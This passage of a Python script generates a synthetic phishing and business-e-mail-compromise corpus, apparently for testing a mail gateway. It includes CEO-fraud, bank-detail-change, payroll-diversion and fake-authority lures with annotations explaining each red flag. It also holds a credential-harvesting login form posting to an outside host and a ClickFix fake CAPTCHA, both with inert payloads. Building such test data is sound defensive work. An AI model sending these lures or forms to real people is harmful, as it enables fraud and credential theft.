        tls, proto = '', 'ESMTP'
    lines.append(f'Received: from {helo} ({rd}){tls}\n\tby mx01.example.com (Postfix) with {proto} id {qid(key)}\n'
                 f'\tfor <{rcpt}>; {rfcdate(recv)} ({TZN[1]})')
    for i, hp in enumerate(m['hops']):
        if isinstance(hp, tuple):
            hp, htz = hp
        else:
            htz = m['tz']
        hd = (sent + timedelta(seconds=2 + i)).astimezone(timezone(timedelta(hours=htz)))
        lines.append('Received: ' + hp.format(d=rfcdate(hd) + f' ({TZN.get(htz, "")})'.replace(' ()', ''),
                                               rcpt=rcpt, q=qid(key + str(i)), h=H('hop', key, i, n=20)))
    lines.append(f'Date: {rfcdate(sent)}')
    lines.append(f'From: {addr(frm, hcs)}')
    if m['to_hdr']:
        lines.append(f'To: {m["to_hdr"]}')
    else:
        lines.append('To: ' + ',\n\t'.join(addr(t, hcs) for t in tos))
    if ccs:
        lines.append('Cc: ' + ',\n\t'.join(addr(t, hcs) for t in ccs))
    if m['reply_to']:
        lines.append(f'Reply-To: {addr(who(m["reply_to"]), hcs)}')
    lines.append('Subject: ' + enc_hdr('Subject', m['subject'], hcs))
    dom = m['middom'] or frm[1].split('@')[1]
    lines.append(f'Message-ID: {make_mid(m["mid"], key, dom)}')
    for e in m['extra']:
        lines.append(e)
    if m['mailer']:
        lines.append(f'X-Mailer: {m["mailer"]}')
    if m['ua']:
        lines.append(f'User-Agent: {m["ua"]}')
    lines.append('MIME-Version: 1.0')

    bs = m['bstyle']
    text = to_text(m['text']) if m['text'] else None
    htm = None
    if m['html']:
        htm = m['html'] if m['html'].lstrip().startswith('<') else to_html(m['html'], **m['html_opts'])
        htm = htm.replace('__CS__', cs)
    parts = []
    if text and htm:
        hp = leaf('text/html', htm, m['hcte'], cs)
        if m['related']:
            hp = multipart('related', [hp] + [attachment(f, c, d, cid) for cid, f, c, d in m['related']],
                           boundary(bs, key, 3))
        body = multipart('alternative', [leaf('text/plain', text, m['cte'], cs), hp], boundary(bs, key, 2))
    elif htm:
        body = leaf('text/html', htm, m['hcte'], cs)
        if m['related']:
            body = multipart('related', [body] + [attachment(f, c, d, cid) for cid, f, c, d in m['related']],
                             boundary(bs, key, 3))
    else:
        body = leaf('text/plain', text, m['cte'], cs)
    if m['atts']:
        body = multipart('mixed', [body] + [attachment(f, c, d) for f, c, d in m['atts']], boundary(bs, key, 1),
                         preamble=(bs in ('outlook', 'part')))
    out = '\n'.join(lines) + '\n' + body
    for ln in out.split('\n'):
        assert len(ln) <= 998, (key, ln[:80])
    out.split('\n\n', 1)[0].encode('ascii')
    return out.replace('\r\n', '\n').replace('\n', '\r\n').encode(PYCS.get(cs.lower(), cs))

# ---------- sending-infrastructure helpers ----------
def gmail(h='ej1-f47', ip='209.85.218.47'):
    host = f'mail-{h}.google.com'
    return dict(via=(host, host, ip),
                hops=[(f'by {host} with SMTP id a640c23a62f3a-{{h}}.{int("1" + ip[-1])}\n'
                       '        for <{rcpt}>; {d}', -8)],
                mid='gmail', bstyle='gmail')

def m365(host, ip, srv='AM9PR07MB7112', region='eurprd07'):
    return dict(via=(host, host, ip),
                hops=[f'from {srv}.{region}.prod.outlook.com\n ([fe80::5c1d:8a3e:2f47:b9c1]) by {srv}.{region}.prod.outlook.com\n'
                      ' ([fe80::5c1d:8a3e:2f47:b9c1%5]) with mapi id 15.20.9412.014; {d}'],
                mid='outlook', bstyle='outlook')

def outlookcom(n='2107', ip='40.92.58.107'):
    host = f'mail-vi1eur05olkn{n}.outbound.protection.outlook.com'
    return dict(via=(host, host, ip),
                hops=['from PAXP193MB1744.EURP193.PROD.OUTLOOK.COM\n'
                      ' ([fe80::8b3e:41d2:9a07:c1e5]) by PAXP193MB1744.EURP193.PROD.OUTLOOK.COM\n'
                      ' ([fe80::8b3e:41d2:9a07:c1e5%3]) with mapi id 15.20.9412.011; {d}'],
                mid='outlookcom', bstyle='outlook')

def gmx(dom='gmx.net', ip='212.227.17.22', client='91.64.137.205', crdns='ip5b4089cd.dynamic.kabel-deutschland.de'):
    return dict(via=(f'mout.{dom}', f'mout.{dom}', ip),
                hops=[f'from [192.168.178.31] ({crdns} [{client}]) by mail.{dom}\n'
                      f' (mrgmx104 [212.227.17.168]) with ESMTPSA (Nemesis) id 1M{{h}}; {{d}}'.replace('{h}', '{h}')],
                mid='apple', bstyle='apple')

def postfix_host(host, ip, client_ip, client_rdns, helo=None):
    return dict(via=(helo or host, host, ip),
                hops=[f'from [{client_ip}] ({client_rdns} [{client_ip}])\n'
                      f'\tby {host} (Postfix) with ESMTPSA id {{q}};\n\t{{d}}'])

def php_host(host, ip, user='webuser'):
    return dict(via=(host, host, ip),
                hops=[f'from {user} by {host} with local (Exim 4.98)\n\t(envelope-from <{user}@{host}>)\n\tid 1v{{q}}; {{d}}'],
                mailer='PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)', mid='php', bstyle='php')

def internal(client='10.20.14.57'):
    return dict(via=INTERNAL,
                hops=['from EXHQ02.corp.example.com (10.20.0.31) by mail-int01.example.com\n'
                      '\t(Postfix) with ESMTPS id {q}; {d}'],
                mailer='Microsoft Outlook 16.0', mid='exch', middom='EXHQ02.corp.example.com', bstyle='outlook')

def ses(ip='54.240.4.11', n='a4-11'):
    host = f'{n}.smtp-out.eu-west-1.amazonses.com'
    return dict(via=(host, host, ip), hops=[], mid='ses', bstyle='part')

def sendgrid(ip='149.72.154.232', sub='wrqvtzvf'):
    host = f'{sub}.outbound-mail.sendgrid.net'
    return dict(via=(host, host, ip), hops=[], bstyle='part')

def bare(helo, rdns, ip, tls=True):
    return dict(via=(helo, rdns, ip), hops=[], tls=tls)

# --------------------------------------------------------------------------
# Shared reference data
# --------------------------------------------------------------------------
def I(*ds, **kw):
    out = {}
    for d in ds:
        out.update(d)
    out.update(kw)
    return out

def it_piva(first10):
    s = 0
    for i, ch in enumerate(first10):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        s += d
    return first10 + str((10 - s % 10) % 10)

def pl_nip(first9):
    w = [6, 5, 7, 2, 3, 4, 5, 6, 7]
    c = sum(int(a) * b for a, b in zip(first9, w)) % 11
    assert c != 10
    return first9 + str(c)

def fmt_nip(n):
    return f'{n[:3]}-{n[3:6]}-{n[6:8]}-{n[8:]}'

def pl_grp(ib):
    return ib[:4] + ' ' + ' '.join(ib[i:i + 4] for i in range(4, len(ib), 4))

# genuine accounts
LIEF_OLD = de_iban('50040000', '0612345800')          # Commerzbank Frankfurt
LIEF_NEW = de_iban('50050201', '0200478913')          # Frankfurter Sparkasse
LIEF_FAKE = de_iban('10011001', '2746153908')         # N26 (fraud)
PLOG_OLD = pl_iban('1020402', '0000190201438751')     # PKO BP (genuine old)
PLOG_NEW = pl_iban('1140200', '4000036502874419')     # mBank (genuine new)
PLOG_FAKE = pl_iban('2490000', '5000040001378825')    # Alior (fraud)
EX_IT = it_iban('03069', '01600', '100000064512')     # Example Italia, Intesa Sanpaolo
PUL_IT = it_iban('02008', '01633', '000104871236')    # Pulizie Lombarde, UniCredit
ESCROW_LT = lt_iban('35000', '10002274519')           # Paysera LT (fraud escrow)
MONZO_ACC = '28461937'
MONZO_FAKE = gb_iban('MONZ', '040004', MONZO_ACC)
ES_FAKE_CEO = es_iban('2100', '8734', '0200118452')    # CaixaBank (fraud)
ES_FAKE_PAY = es_iban('0182', '5918', '0201583307')    # BBVA (payroll diversion)
ES_GESTORIA = es_iban('0049', '1806', '0723104581')    # Santander (genuine)
GR_KARA = gr_iban('026', '0215', '0000370200584117')  # Eurobank (genuine)
GR_FAKE = gr_iban('017', '0172', '0005172048833619')  # Piraeus (fraud)
EX_PIVA = it_piva('1046372096')
PL_NIP_EX = pl_nip('779254731')
PL_NIP_PLOG = pl_nip('782287106')
INN_KLIN = ru_inn10('772451083')
INN_BC = ru_inn10('771438906')
BIK_SBER, BIK_ALFA, BIK_TB = '044525225', '044525593', '044525974'
KS_SBER = ru_corr_account(BIK_SBER, '30101810X00000000225')
KS_ALFA = ru_corr_account(BIK_ALFA, '30101810X00000000593')
KS_TB = ru_corr_account(BIK_TB, '30101810X45250000974')
RS_KLIN_FAKE = ru_account(BIK_TB, '40702810X10001783664')
RS_BC_OLD = ru_account(BIK_SBER, '40702810X38000041827')
RS_BC_NEW = ru_account(BIK_ALFA, '40702810X02400017735')
BTC1 = btc_bech32('audit42-sextortion-en')
BTC2 = btc_base58('audit42-extortion-company')
BTC3 = btc_base58('audit42-sextortion-pl')

A, B = 'attack', 'business'

# ============================== ATTACK: German ==============================
msg(A, '01-de-ceo-fraud-vertrauliche-akquisition', 'de', 'utf-8',
    ('Markus Hoffmann', 'markus.hoffmann@examplegroup-eu.com'), ['CB'],
    'Vertraulich – Projekt Alpenblick', '2026-11-05 16:42',
    T('''
    Hallo Claudia,

    bist du heute noch im Büro erreichbar? Ich sitze gerade in Gesprächen in Zürich und kann nicht telefonieren.

    Wie im Sommer kurz angedeutet: Wir sind in der finalen Phase der Übernahme eines Personaldienstleisters in Österreich. Das Signing ist für Montag angesetzt, bis dahin gilt absolute Vertraulichkeit – auch intern. Bitte sprich das Thema weder mit Sabine noch mit der Bank an, die Meldung an die Wettbewerbsbehörde läuft über die Kanzlei.

    Dr. Lorenz Aigner von der Kanzlei Aigner & Partner wird dich heute noch per E-Mail kontaktieren. Er braucht für die Exklusivitätsvereinbarung eine Anzahlung auf das Treuhandkonto, damit der Verkäufer nicht mit dem zweiten Bieter abschließt. Die Freigabe liegt bei mir, ich habe das mit dem Beirat abgestimmt.

    Kannst du mir kurz bestätigen, welchen Betrag wir heute noch mit Valuta morgen disponieren können? Alles Weitere schicke ich dir, sobald ich aus dem Meeting raus bin.

    Danke dir und viele Grüße
    Markus

    Von meinem iPhone gesendet
    '''),
    **I(bare('mail.examplegroup-eu.com', 'vps-7c3f21a8.vps.ovh.net', '51.75.146.201'),
        hops=['from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.examplegroup-eu.com (Postfix) with ESMTPSA id {q}\n\tfor <{rcpt}>; {d}'],
        mailer='iPhone Mail (22B91)', mid='apple', bstyle='apple'),
    what='CEO fraud, first contact (no IBAN yet): fake CEO on look-alike domain examplegroup-eu.com asks CFO for same-day escrow payment, secrecy, "lawyer will contact you"',
    why='Look-alike of examplegroup.eu registered days before, sent from an OVH VPS, not from the internal relay; secrecy + urgency + bypassing colleagues/bank')

msg(A, '02-de-lieferant-lookalike-bankverbindung', 'de', 'iso-8859-15',
    ('Stefan Maier', 's.maier@lieferantgmbh.de'), ['SK'],
    'AW: Rechnung RE-2026-1187', '2026-11-10 10:12',
    T(f'''
    Guten Tag Frau Krüger,

    vielen Dank für Ihre Rückmeldung zur Rechnung RE-2026-1187.

    Bitte beachten Sie, dass wir im Zuge der Umstellung unseres Zahlungsverkehrs (Wechsel der Hausbank zum 01.11.2026) ab sofort ausschließlich Zahlungen auf das unten genannte Konto annehmen können. Unser bisheriges Konto bei der Commerzbank wird zum Monatsende geschlossen; Zahlungen dorthin werden automatisch zurückgebucht, was die Auslieferung der Winterjacken für Ihre Lagerkräfte verzögern könnte.

    Neue Bankverbindung:
    Kontoinhaber: Lieferant GmbH
    IBAN: {fmt_iban(LIEF_FAKE)}
    BIC: NTSBDEB1XXX
    Bank: N26 Bank SE

    Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang. Wir bitten Sie, die offenen Rechnungen RE-2026-1187 (4.318,60 €) und RE-2026-1203 (1.942,35 €) bis Freitag auf das neue Konto zu überweisen.

    Für Rückfragen stehe ich Ihnen gern per E-Mail zur Verfügung, da ich diese Woche überwiegend bei Kunden unterwegs bin.

    Mit freundlichen Grüßen

    Stefan Maier
    Vertrieb / Key Account
    Lieferant GmbH
    Industriestraße 14 · 63263 Neu-Isenburg
    Tel. +49 6102 7345-21

    -----Ursprüngliche Nachricht-----
    Von: Sabine Krüger <sabine.krueger@example.com>
    Gesendet: Montag, 9. November 2026 14:03
    An: Stefan Maier <s.maier@lieferant-gmbh.de>
    Betreff: Rechnung RE-2026-1187

    Hallo Herr Maier,

    die Rechnung RE-2026-1187 ist bei uns eingegangen, wir zahlen wie gewohnt zum Monatsende.

    Viele Grüße
    Sabine Krüger
    '''),
    atts=[('Lieferant_GmbH_Bankverbindung_2026.pdf', 'application/pdf', make_pdf([
        '# Lieferant GmbH', 'Industriestrasse 14, 63263 Neu-Isenburg', '',
        'Mitteilung ueber die Aenderung der Bankverbindung', '',
        'Kontoinhaber: Lieferant GmbH', f'IBAN: {fmt_iban(LIEF_FAKE)}', 'BIC: NTSBDEB1XXX', '',
        'gez. Geschaeftsfuehrung', '', 'PLACEHOLDER - inert test document'], 'Bankverbindung'))],
    extra=['In-Reply-To: <' + H('sk-1187', n=32) + '@EXHQ02.corp.example.com>',
           'References: <' + H('sk-1187', n=32) + '@EXHQ02.corp.example.com>',
           'Thread-Topic: Rechnung RE-2026-1187', 'Thread-Index: AdtTk3m1V0Zq2c8xS5aH0pLq7RvY1w==',
           'Content-Language: de-DE'],
    **I(bare('lieferantgmbh.de', 'static.218.52.47.78.clients.your-server.de', '78.47.52.218'),
        mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Supplier bank-detail change in a hijacked thread (quotes a real internal reply) from look-alike lieferantgmbh.de (missing hyphen); new N26 IBAN, PDF "confirmation", e-mail-only contact',
    why='Genuine supplier domain is lieferant-gmbh.de; sender domain differs by one character, Hetzner VPS, asks to redirect two invoices to a neobank and avoids phone verification')

msg(A, '03-de-fake-arbeitsagentur-aueg-erlaubnis', 'de', 'iso-8859-1',
    ('Bundesagentur für Arbeit - Team AÜG', 'aueg-erlaubnis@arbeitsagentur-aueg.de'), ['AS'],
    'Arbeitnehmerüberlassung: Nachweis zur Verlängerung der Erlaubnis (Az. 2714-0031/26)', '2026-11-04 08:15',
    None, T('''
    Sehr geehrte Damen und Herren,

    die Erlaubnis Ihres Unternehmens zur Arbeitnehmerüberlassung nach § 1 AÜG steht zur turnusmäßigen Überprüfung an. Im Rahmen der Digitalisierung des Verfahrens sind Nachweise seit dem 1. Oktober 2026 ausschließlich über das eServices-Portal der Bundesagentur für Arbeit einzureichen.

    Bitte laden Sie bis zum **20.11.2026** folgende Unterlagen hoch:
    - aktueller Auszug aus dem Gewerbezentralregister
    - Unbedenklichkeitsbescheinigungen der Krankenkassen und der Berufsgenossenschaft
    - Bescheinigung in Steuersachen des Finanzamts

    [[Zum eServices-Portal|https://eservices.arbeitsagentur-aueg.de/erlaubnis/nachweis?az=2714-0031-26&m=anna.schneider%40example.com]]

    Ohne fristgerechten Nachweis kann die Erlaubnis nicht verlängert werden. Die Überlassung von Leiharbeitnehmern ohne gültige Erlaubnis stellt eine Ordnungswidrigkeit nach § 16 AÜG dar.

    Mit freundlichen Grüßen
    Ihre Bundesagentur für Arbeit
    Regionaldirektion Hessen - Team Arbeitnehmerüberlassung

    Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.
    '''),
    html_opts=dict(font='Arial, sans-serif', size='10pt', button='#e30613',
                   head='<div style="border-bottom:4px solid #e30613;padding:10px 0;margin-bottom:16px;font-size:15pt;font-weight:bold">Bundesagentur f&uuml;r Arbeit</div>\n'),
    **I(sendgrid('149.72.207.61', 'xvkqpmrs')),
    extra=['List-Unsubscribe: <https://u4471203.ct.sendgrid.net/lu/unsubscribe?oc=u001.Qk3>', 'X-Entity-ID: kq1Pj4c0Yb3mN2xR'],
    what='Fake Bundesagentur für Arbeit notice: AÜG licence (Arbeitnehmerüberlassung) "renewal evidence" via portal link, HTML-only',
    why='Agency is arbeitsagentur.de; look-alike domain arbeitsagentur-aueg.de sent through SendGrid; credential harvesting of HR lead with licence-loss threat specific to temp staffing')

_ms_page = T('''
<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>E-Rechnung 2026-11-0457 - Anzeige</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}.box{width:380px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right}</style></head>
<body><div class="box">
<div style="font-size:20px;font-weight:600">Microsoft</div>
<p>Dieses Dokument ist geschützt. Melden Sie sich an, um die E-Rechnung <b>2026-11-0457</b> anzuzeigen.</p>
<form action="https://e-rechnung-viewer.pages.dev/auth" method="post">
<input type="email" name="login" value="sabine.krueger@example.com">
<input type="password" name="passwd" placeholder="Kennwort">
<button type="submit">Anmelden</button></form>
<!-- INERT PLACEHOLDER: credential-harvesting page used in mail-gateway evaluation; target host is fictitious -->
</div></body></html>
''')

msg(A, '04-de-e-rechnung-html-anhang-kompromittiert', 'de', 'utf-8',
    ('Buchhaltung Elektro Brandt', 'buchhaltung@elektro-brandt.de'), ['SK'],
    'E-Rechnung 2026-11-0457 (XRechnung) – bitte um Prüfung', '2026-11-12 08:05',
    T('''
    Sehr geehrte Damen und Herren,

    anbei erhalten Sie unsere Rechnung Nr. 2026-11-0457 im Format XRechnung. Da Ihr System die XML-Datei beim letzten Mal nicht verarbeiten konnte, senden wir Ihnen diesmal die Visualisierung über unseren Rechnungsviewer. Zur Anzeige melden Sie sich bitte einmalig mit Ihrem Microsoft-365-Firmenkonto an.

    Rechnungsbetrag: 2.864,11 EUR, fällig zum 26.11.2026.

    Mit freundlichen Grüßen
    i. A. Martina Brandt
    Buchhaltung

    Elektro Brandt GmbH & Co. KG
    Hanauer Landstraße 212, 60314 Frankfurt am Main
    '''), cte='base64',
    atts=[('E-Rechnung_2026-11-0457.html', 'text/html', _ms_page.encode('utf-8'))],
    **I(dict(via=('mout.kundenservice.net', 'mout.kundenservice.net', '212.227.17.24'),
             hops=['from [185.220.101.47] ([185.220.101.47]) by mrelayeu.kundenservice.net\n'
                   ' (mreue010 [212.227.15.167]) with ESMTPSA (Nemesis) id 1Mv{h}; {d}']),
        ua='Open-Xchange Mailer v7.10.6-Rev81', mid='default', middom='email.ionos.de'),
    what='E-invoice (XRechnung) lure from a compromised genuine IONOS mailbox of a small electrical contractor; HTML attachment is a Microsoft 365 login page posting to pages.dev',
    why='Legitimate but compromised sender, login via Tor exit node 185.220.101.47; an invoice that requires a Microsoft login is credential phishing')

msg(A, '05-de-bewerbung-zip-lnk', 'de', 'utf-8',
    ('Daniel Kowalski', 'daniel.kowalski89@web.de'), ['FN'],
    'Bewerbung als Projektingenieur Elektrotechnik (m/w/d) – Ref. ENG-2611', '2026-11-03 21:17',
    T('''
    Sehr geehrter Herr Neumann,

    über Ihre Anzeige auf StepStone bin ich auf die Position als Projektingenieur Elektrotechnik (m/w/d) bei Ihrem Kunden im Raum Frankfurt aufmerksam geworden. Ich bin Diplom-Ingenieur (FH) mit acht Jahren Erfahrung in der Inbetriebnahme von Schaltanlagen und in der SPS-Programmierung (Siemens S7, TIA Portal) und derzeit in ungekündigter Stellung.

    Meine vollständigen Bewerbungsunterlagen (Lebenslauf, Arbeitszeugnisse, Zertifikate) habe ich Ihnen als ZIP-Archiv angehängt, da die Dateien für das Bewerberportal zu groß waren.

    Über eine Rückmeldung würde ich mich sehr freuen. Telefonisch erreichen Sie mich am besten ab 17 Uhr.

    Mit freundlichen Grüßen
    Daniel Kowalski
    '''),
    atts=[('Bewerbungsunterlagen_D_Kowalski.zip', 'application/zip', make_zip([
        ('Bewerbungsunterlagen/Lebenslauf_Daniel_Kowalski.pdf.lnk', INERT),
        ('Bewerbungsunterlagen/Arbeitszeugnisse.pdf.lnk', INERT)]))],
    **I(gmx(dom='web.de', ip='212.227.15.3', client='95.214.53.18', crdns='95.214.53.18'),
        mid='default', middom='web.de', bstyle='part'),
    what='Fake job application to a recruiter with ZIP containing .pdf.lnk shortcuts (inert placeholders for a LNK/PowerShell dropper)',
    why='Recruiters must open CVs from strangers; double-extension .pdf.lnk inside ZIP is a malware dropper, the sending client is a VPN/hosting IP, not a residential line')

_clickfix = T('''
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Kandidatennachricht - Sicherheitsprüfung</title></head>
<body style="font-family:Arial,sans-serif;background:#f9f9f9">
<div style="max-width:460px;margin:60px auto;background:#fff;border:1px solid #ddd;padding:28px">
<h3>Bestätigen Sie, dass Sie ein Mensch sind</h3>
<p><label><input type="checkbox" onclick="c()"> Ich bin kein Roboter</label></p>
<div id="s" style="display:none">
<p><b>Verifizierungsschritte</b></p>
<ol><li>Drücken Sie die <b>Windows-Taste + R</b></li>
<li>Drücken Sie <b>Strg + V</b></li>
<li>Drücken Sie <b>Enter</b></li></ol>
<p style="font-size:11px;color:#777">Ray ID: 8f1c2a7b9d3e4f51 · Leistung &amp; Sicherheit durch Cloudflare</p>
</div></div>
<script>
// INERT PLACEHOLDER: a real ClickFix page copies a PowerShell command here.
function c(){navigator.clipboard.writeText("INERT PLACEHOLDER - simulated ClickFix clipboard command");document.getElementById("s").style.display="block";}
</script></body></html>
''')

msg(A, '06-de-stepstone-clickfix-kandidatennachricht', 'de', 'utf-8',
    ('StepStone Nachrichten', 'nachrichten@stepstone-recruiting.de'), ['FN'],
    'Neue Nachricht zu Ihrer Anzeige „Lagerhelfer (m/w/d) – Frankfurt-Fechenheim“', '2026-11-16 07:58',
    None, T('''
    Guten Tag Herr Neumann,

    eine Kandidatin hat Ihnen über StepStone eine Nachricht zu Ihrer Stellenanzeige geschickt:

    **„Lagerhelfer (m/w/d) – Frankfurt-Fechenheim“** (Anzeigen-ID 13017744)
    Absenderin: Natalia M., verfügbar ab sofort, Staplerschein vorhanden

    „Guten Morgen, ich habe meinen Lebenslauf und die Bescheinigung der Agentur für Arbeit als Anhang hinzugefügt. Ich kann auch Nachtschicht. Bitte schauen Sie sich meine Unterlagen an.“

    Den Anhang finden Sie zusätzlich in dieser E-Mail. Aus Sicherheitsgründen wird er erst nach einer kurzen Überprüfung angezeigt.

    [[Nachricht beantworten|https://www.stepstone-recruiting.de/recruiter/inbox/msg?id=13017744-58812]]

    Ihr StepStone-Team
    '''), hcte='quoted-printable',
    atts=[('Unterlagen_Natalia_M.html', 'text/html', _clickfix.encode('utf-8'))],
    html_opts=dict(font='Arial, sans-serif', button='#0c2577',
                   head='<div style="background:#0c2577;color:#fff;padding:14px 18px;font-size:18px;margin-bottom:16px">StepStone</div>\n'),
    **I(ses('54.240.3.27', 'a3-27')),
    what='Job-board brand (StepStone) "candidate message" with HTML attachment running a ClickFix fake CAPTCHA (Win+R / Ctrl+V / Enter; clipboard text inert)',
    why='Not from stepstone.de; look-alike domain via Amazon SES; ClickFix social engineering makes the user run a pasted command')

msg(A, '07-de-zoll-fks-pruefung-download', 'de', 'iso-8859-1',
    ('Hauptzollamt Frankfurt am Main - FKS', 'fks.pruefung@zoll-verwaltung.de'), ['MH'],
    'Ankündigung einer Prüfung nach § 2 SchwarzArbG - Az. FKS-F 4711/26', '2026-11-17 09:31',
    T('''
    Sehr geehrte Damen und Herren,

    das Hauptzollamt Frankfurt am Main, Sachgebiet Finanzkontrolle Schwarzarbeit, kündigt hiermit eine Prüfung nach §§ 2 ff. Schwarzarbeitsbekämpfungsgesetz in Ihrem Unternehmen an. Gegenstand der Prüfung ist die Einhaltung der Lohnuntergrenze nach § 3a AÜG sowie die ordnungsgemäße Meldung der Leiharbeitnehmer zur Sozialversicherung im Zeitraum 01/2025 bis 09/2026.

    Die Prüfungsverfügung sowie die Liste der vorzulegenden Unterlagen (Arbeitszeitnachweise, Lohnabrechnungen, Überlassungsverträge) stehen aus Datenschutzgründen nur im gesicherten Dokumentenbereich zum Abruf bereit:

    https://dokumente.zoll-verwaltung.de/pv/FKS-F-4711-26

    Zugangscode: 4711-2611

    Bitte stellen Sie sicher, dass die Unterlagen bis zum 24.11.2026 vorliegen. Ansprechpartner ist Zollamtsrat Wolfgang Heller.

    Mit freundlichen Grüßen
    Im Auftrag

    Heller

    Hauptzollamt Frankfurt am Main
    Finanzkontrolle Schwarzarbeit
    '''), cc=['AS'],
    **I(bare('mail.zoll-verwaltung.de', None, '193.143.1.77', tls=False), mailer='Microsoft Outlook 16.0'),
    what='Fake customs (FKS, Finanzkontrolle Schwarzarbeit) audit announcement with link to a "secure document area" that delivers a ZIP dropper',
    why='Customs uses zoll.de; zoll-verwaltung.de is invented, sent without TLS from an IP without reverse DNS; authorities do not deliver audit orders via download links')

msg(A, '08-de-callback-norton-rechnung', 'de', 'iso-8859-15',
    ('Norton Kundenservice', 'norton.rechnung.de7731@gmail.com'), ['PS'],
    'Ihre Bestellbestätigung #NLD-2611-48827', '2026-11-19 07:48',
    T('''
    Sehr geehrte Kundin, sehr geehrter Kunde,

    vielen Dank für Ihre Bestellung. Ihr Abonnement Norton 360 Premium Business (10 Geräte, 36 Monate) wurde automatisch verlängert. Der Betrag von 389,99 € wird innerhalb von 24 Stunden von Ihrem hinterlegten Zahlungsmittel abgebucht.

    Bestellnummer: NLD-2611-48827
    Datum: 19.11.2026
    Betrag: 389,99 € inkl. MwSt.

    Die Rechnung finden Sie im Anhang. Falls Sie diese Verlängerung nicht veranlasst haben oder das Abonnement kündigen möchten, wenden Sie sich bitte innerhalb von 24 Stunden an unser Kundenservice-Team:

    +49 (0)69 2578 4419 (Mo-Sa 8-20 Uhr)

    Nach Ablauf dieser Frist ist eine Rückerstattung leider nicht mehr möglich.

    Mit freundlichen Grüßen
    Ihr Norton Kundenservice
    '''),
    atts=[('Rechnung_NLD-2611-48827.pdf', 'application/pdf', make_pdf([
        '# Rechnung NLD-2611-48827', 'Norton 360 Premium Business - 10 Geraete - 36 Monate',
        'Betrag: 389,99 EUR', '', 'Kuendigung / Rueckerstattung: +49 (0)69 2578 4419', '',
        'PLACEHOLDER - inert test document'], 'Rechnung'))],
    **I(gmail('wr1-f53', '209.85.221.53')),
    what='Callback phishing (TOAD): fake Norton auto-renewal invoice from a Gmail address; victim is meant to call the number and install remote-access tools',
    why='Brand invoice from a free-mailer address, no link at all (evades URL checks), only a phone number and refund deadline')

# ============================== ATTACK: English =============================
msg(A, '09-en-payroll-diversion-uk-manager', 'en', 'us-ascii',
    ('James Whitfield', 'james.whitfield.mcr@outlook.com'), ['SC'],
    'Bank details', '2026-11-20 07:12',
    T(f'''
    Hi Sarah,

    Quick one before the payroll cut-off - I've moved my current account to Monzo and the old Barclays account will be closed at the end of the month. Could you update my salary details so that November's pay goes to the new account?

    Account name: James Whitfield
    Sort code: 04-00-04
    Account number: {MONZO_ACC}
    (IBAN {MONZO_FAKE} if the system asks for it)

    I'm on site at Northgate all day and my laptop is playing up, hence the personal email. No need to call, just drop me a line here when it's done.

    Thanks,
    James

    Sent from Outlook for iOS
    '''), tz=0, cte='7bit',
    **I(outlookcom('2019', '40.92.58.19')),
    what='Payroll diversion: UK country manager impersonated from a personal Outlook.com address, asks payroll to switch salary to a Monzo account before cut-off',
    why='Display name of a colleague on an unknown free-mailer account, "no need to call", new neobank account, payroll deadline')

msg(A, '10-en-device-code-phish-compromised-customer', 'en', 'utf-8',
    ('Gareth Hughes', 'gareth.hughes@northgate-distribution.co.uk'), ['JF'],
    'Revised peak season rota – weeks 49-52', '2026-11-24 14:06',
    T('''
    Hi James,

    As discussed on Monday, I've put the revised peak rota and the headcount we need from you for weeks 49-52 into a Teams file. Our IT has locked down external sharing, so you'll need to authorise your device once to open it:

    1. Go to https://microsoft.com/devicelogin
    2. Enter the code **FQ2VK7NTC**
    3. Sign in with your Example work account

    The code expires after 15 minutes, so if it has timed out just let me know and I'll generate a new one.

    Cheers,
    Gareth

    Gareth Hughes
    Operations Manager | Northgate Distribution Ltd
    Unit 7, Westinghouse Road, Trafford Park, Manchester M17 1DY
    '''), tz=0,
    html=T('''
    Hi James,

    As discussed on Monday, I've put the revised peak rota and the headcount we need from you for weeks 49-52 into a Teams file. Our IT has locked down external sharing, so you'll need to authorise your device once to open it:

    1. Go to [[!https://microsoft.com/devicelogin|https://microsoft.com/devicelogin]]
    2. Enter the code **FQ2VK7NTC**
    3. Sign in with your Example work account

    The code expires after 15 minutes, so if it has timed out just let me know and I'll generate a new one.

    Cheers,
    Gareth

    Gareth Hughes
    Operations Manager | Northgate Distribution Ltd
    Unit 7, Westinghouse Road, Trafford Park, Manchester M17 1DY
    '''),
    **I(m365('mail-db8eur05on2091.outbound.protection.outlook.com', '40.107.20.91', 'DB9PR02MB7354', 'eurprd02')),
    extra=['Thread-Topic: Revised peak season rota - weeks 49-52',
           'X-MS-Has-Attach: ', 'Content-Language: en-GB'],
    what='OAuth device-code phishing from a compromised genuine customer mailbox (Microsoft 365): victim enters attacker-generated code at the real microsoft.com/devicelogin',
    why='Link points to the real Microsoft domain, so URL reputation is clean; entering a code supplied by someone else grants the attacker a token for the victim account')

msg(A, '11-en-fake-home-office-right-to-work', 'en', 'utf-8',
    ('Home Office Employer Compliance', 'employer.compliance@righttowork-homeoffice.uk'), ['SC'],
    'Right to work compliance review – action required (Ref RTW-2026-448193)', '2026-11-11 10:20',
    T('''
    Dear Employer,

    Immigration Enforcement is conducting a compliance review of employers in the recruitment and temporary labour sector in the North West. Our records indicate that online right to work checks for 37 workers supplied by your organisation between 1 April and 30 September 2026 could not be matched to a valid share code.

    To avoid a civil penalty of up to £60,000 per illegal worker, please review the affected records and upload your statutory excuse evidence within 7 days.

    [[Review affected workers|https://employer.righttowork-homeoffice.uk/review?ref=RTW-2026-448193]]

    You will need to sign in with your Government Gateway credentials or your company Microsoft account.

    Yours faithfully,

    Employer Compliance Team
    Immigration Enforcement
    Home Office
    '''), tz=0, cc=['JF'],
    html=T('''
    Dear Employer,

